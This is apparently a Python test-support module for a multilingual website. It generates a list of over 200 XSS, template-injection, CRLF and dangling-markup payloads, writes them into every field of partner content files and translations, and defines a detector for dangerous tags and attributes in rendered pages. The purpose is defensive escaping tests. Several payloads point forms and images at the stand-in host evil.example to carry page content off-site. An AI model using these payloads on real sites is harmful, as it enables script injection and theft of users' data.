"""Texts that do harm where a page shows them unescaped, and a search for such harm in a page."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from babel.messages.catalog import Catalog

from tests.conftest import Main
from tests.content import write_content
from tests.reword import texts_beside
from widget.besides import FILES
from widget.cli.po_text import as_text
from widget.content import rules_path
from widget.po import read_catalogue
from widget.rules.file import load_rules
from widget.rules.texts import texts

RUN = "alert(1)"

_LEAVING = ("", '">', "'>", "</title>", "</script>", "</style>", "-->", "</main>", "]]>", "</bdi>")
"""Markup that ends a place where a page may have a text."""

_RUNNING = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<iframe src=javascript:{RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} autofocus>a</a>",
    f"<math><a xlink:href=javascript:{RUN}>a</a></math>",
    f"<marquee onstart={RUN}>a</marquee>",
    f"<style onload={RUN}></style>",
    f"<p style=animation:a onanimationstart={RUN}>",
    f"<base href=//evil.example/><p onclick={RUN}>",
)
_OTHERS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java&#10;script:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript://a.example/%0a{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f"` onmouseover=`{RUN}",
    f'" autofocus onfocus="{RUN}" a="',
    f"x onerror={RUN} ",
    f"';{RUN};'",
    f'";{RUN};"',
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    "{{ 7 * 7 }}{% debug %}",
    "{{ config }}{{ self.__init__.__globals__ }}",
    "%(outcome)s %s {} ${x}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"＜script＞{RUN}＜/script＞",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"<<script>{RUN}//<</script>",
    f"<script\n>{RUN}</script\n>",
    f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"a\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>",
    f"\u2028<img src=x onerror={RUN}>",
    f"\u202e<img src=x onerror={RUN}>",
    f"}}</style><script>{RUN}</script>",
    f"red;background:url(javascript:{RUN})",
    "#fff;}body{background:url(//evil.example/)}",
    f"<div hx-get=/x hx-trigger=load hx-on:load={RUN}></div>",
    f"<p data-hx-on:click={RUN} data-hx-vals='js:{{a:{RUN}}}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<form action=//evil.example/><button>a",
    "<link rel=stylesheet href=//evil.example/a.css>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    # These open a quotation or an element, which swallows the rest of the page.
    "<img src='//evil.example/?",
    "<a href=//evil.example/><base target='",
    "<form action=//evil.example/><input type=submit><textarea name=rest>",
    "<button formaction=//evil.example/ form=a>",
    "<plaintext>",
)
PAYLOADS = tuple(dict.fromkeys((*(a + b for a in _LEAVING for b in _RUNNING), *_OTHERS)))
assert len(PAYLOADS) >= 200

LOADING = {"src", "href", "action", "formaction", "data", "xlink:href", "srcdoc"}
FOREIGN = {
    *("object", "embed", "base", "math", "marquee", "video", "audio", "source", "template"),
    *("svg", "noscript", "frame", "applet", "plaintext"),
}
"""Elements that none of our pages has."""


def dangers(html: str) -> list[str]:
    """What in a page could run a script, load a foreign file or send a form elsewhere."""
    return [*_found(Main(html).tags)]


def _found(tags: list[tuple[str, dict[str, str]]]) -> Iterator[str]:
    for tag, given in tags:
        if tag in FOREIGN:
            yield f"<{tag}>"
        for name, value in given.items():
            if name.startswith("on") or ":" in name.removeprefix("xml:"):
                yield f"{tag} {name}={value}"
            reduced = re.sub(r"[\s\0]", "", value).lower()
            if name in LOADING and re.match("(javascript|data|vbscript):|//", reduced):
                yield f"{tag} {name}={value}"
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            yield "a script"
        if tag == "iframe" and not given.get("src", "").startswith("/"):
            yield f"a frame with {given}"
        if tag == "meta" and given.get("http-equiv"):
            yield f"meta {given}"


# Content directories with payloads.

FILE = """
name = {name}
site = {site}
languages = {languages}
origins = {origins}
{presets}
[contacts]
email = {email}
phones = {phones}
[theme]
ground = "#fff"
text = "#222"
accent = {accent}
on_accent = "#fff"
border = "#666"
font = {font}
"""
HARMLESS = {
    "name": '"Inn"',
    "site": '"https://inn.example"',
    "languages": '["en", "ru", "kk"]',
    "origins": '["https://inn.example"]',
    "presets": "",
    "email": '"inn@inn.example"',
    "phones": '["+7 700 123-45-67"]',
    "accent": '"#063"',
    "font": '"serif"',
}
FIELDS = {
    "name": ("name", "{}"),
    "site": ("site", "https://inn.example/{}"),
    "scheme": ("site", "{}"),
    "email": ("email", "{}@inn.example"),
    "origin": ("origins", "https://inn.example/{}"),
    "language": ("languages", "{}"),
    "preset": ("presets", "{}"),
    "phone": ("phones", "+7 700 123-45-67{}"),
    "colour": ("accent", "#063{}"),
    "font": ("font", "{}"),
}
"""The fields of a partner's file that take a text: key, and the text around a payload."""


def partner_with(field: str, payload: str) -> str:
    """The file of a partner with a payload in one field."""
    key, around = FIELDS[field]
    value = json.dumps(around.format(payload), ensure_ascii=False)
    if key in ("languages", "origins", "phones"):
        value = f"[{value}]"
    if key == "presets":
        value = f"[presets]\npurpose = {value}"
    return FILE.format(**HARMLESS | {key: value})


def named_twice(own: str, english: str) -> str:
    """The file of a partner with an own name in Kazakh and an English name."""
    names = (json.dumps(each, ensure_ascii=False) for each in (own, english))
    return FILE.format(**HARMLESS | {"name": "{{ kk = {}, en = {} }}".format(*names)})


def partners_with_payloads(directory: Path) -> Path:
    """A content directory with one partner for each field and payload, such as `site-17`."""
    return write_content(
        directory,
        {
            f"{field}-{number}": partner_with(field, payload)
            for field in FIELDS
            for number, payload in enumerate(PAYLOADS)
        },
    )


IN_TEXTS = tuple(each for each in PAYLOADS if not set(each) & set("{}%\r\n\0\u2028\u202e"))
"""Payloads that a text of the rules may hold: one line, without braces and percent signs."""


def rules_with_payloads(directory: Path) -> Path:
    """A content directory in which each text ends with a payload, in every language."""
    write_content(directory)
    payloads = cycle(IN_TEXTS)
    rules = rules_path(directory)
    longer = _fill(rules, [text.english for text in texts(load_rules(rules))], payloads)
    for name in FILES:
        beside = texts_beside(directory, name.removesuffix(".toml"))
        longer |= _fill(directory / name, [text.english for text in beside], payloads)
    for translated in (directory / "words").glob("*.po"):
        _fill_words(translated, longer, payloads)
    return directory


def _fill(path: Path, english: list[str], payloads: Iterator[str]) -> dict[str, str]:
    """Append payloads to the texts of a file, and return text → text with its payload."""
    written = path.read_text()
    longer = {text: f"{text} {next(payloads)}" for text in english}
    for text, with_payload in longer.items():
        assert f'"{text}"' in written
        written = written.replace(f'"{text}"', json.dumps(with_payload, ensure_ascii=False))
    path.write_text(written)
    return longer


def _fill_words(path: Path, longer: dict[str, str], payloads: Iterator[str]) -> None:
    old = read_catalogue(path, path.name)
    new = Catalog(old.locale, fuzzy=False)
    for message in old:
        if message.id in longer:
            said = f"{message.string} {next(payloads)}"
            new.add(longer[message.id], said, context=message.context)
    path.write_text(as_text(new))
